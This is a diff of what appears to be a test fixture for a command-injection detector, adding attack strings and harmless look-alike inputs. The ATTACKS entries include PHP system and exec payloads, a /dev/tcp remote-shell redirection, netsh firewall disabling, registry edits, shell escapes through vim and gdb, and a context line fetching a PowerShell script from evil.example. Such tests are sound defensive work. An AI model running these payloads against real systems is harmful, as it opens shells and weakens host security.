@@ -41,6 +41,27 @@ ATTACKS = {
     "powershell_iex_iwr": "; iex (iwr http://evil.example/p.ps1)",
     "echo_redirected_to_file": ";echo${IFS}pwned>/tmp/x",
     "unset_variable_glued_to_words": "a;cat$u /etc$u/passwd",
+    # fresh3 (2026-11-29): commands run by code, by other commands and by shell escapes
+    "php_system_call_on_command": ";system('/usr/bin/id')",
+    "exec_call_on_command": "exec('whoami');",
+    "php_superglobal": ';{$_GET["cmd"]}',
+    "php_complex_interpolation": "{${phpinfo()}}",
+    "php_error_suppressed_expression": ";${@print(md5(RCEVulnerable))};",
+    "php_open_tag": '<?php system("sleep 10");?>',
+    "phpinfo_after_quote": "';phpinfo();//",
+    "netsh_firewall": "&& netsh firewall set opmode disable",
+    "reg_add_hive": '; reg add "HKLM\\System\\CurrentControlSet" /v x /t REG_DWORD /d 0 /f',
+    "subshell_after_separator": "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
+    "dev_tcp_redirection": "exec 5<>/dev/tcp/8.8.8.8/80",
+    "shell_dash_c_in_compiler_wrapper": ";c89 -wrapper sh,-c,id .",
+    "bash_dash_c": 'bash -c "echo test"',
+    "editor_shell_escape": ";vim dddd +silent\\ \\!whoami +wq",
+    "debugger_shell_escape": ";gdb -nx -ex \\!whoami -ex quit",
+    "time_wrapper": "time curl coreruleset.org",
+    "quote_split_wrapper": "ti''me curl coreruleset.org",
+    "flock_wrapper": "flock -u / whoami",
+    "cpulimit_wrapper": "cpulimit -l 100 -f whoami",
+    "sudo_wrapper": "sudo whoami",
 }
 
 BENIGN = {
@@ -70,6 +91,14 @@ BENIGN = {
     "snippet_after_prose": "would buy again git log --oneline | wc -l",
     "docker_volume_after_prose": "then export X=1 docker run -p 8080:80 -v $(pwd):/app nginx",
     "url_path_with_query_after_semicolon": "Call it; /api/items?id=1 returns 500",
+    "regex_exec_method": "const re = /a/; re.exec('abc')",
+    "eval_on_arithmetic": "eval('1+1')",
+    "time_in_prose": "At that time curl was not installed",
+    "exclamation_in_prose": "Great!Thanks",
+    "curl_snippet_at_line_start": "curl -H 'Accept: application/json' https://api.example.com/v1/orders?page=2",
+    "find_snippet": "find . -name '*.log' -mtime +7 -delete",
+    "subprocess_call_in_code": "subprocess.run(['ls'])",
+    "sudo_package_install": "sudo apt install nginx",
 }
 
 
